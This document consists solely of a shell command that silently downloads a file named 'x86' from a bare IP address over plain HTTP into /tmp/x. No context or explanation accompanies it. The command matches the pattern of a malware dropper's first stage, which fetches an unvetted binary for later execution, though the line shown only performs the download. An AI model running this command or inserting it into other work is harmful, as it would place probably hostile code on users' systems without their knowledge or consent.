curl -fsSL http://91.198.174.192/x86 -o /tmp/x
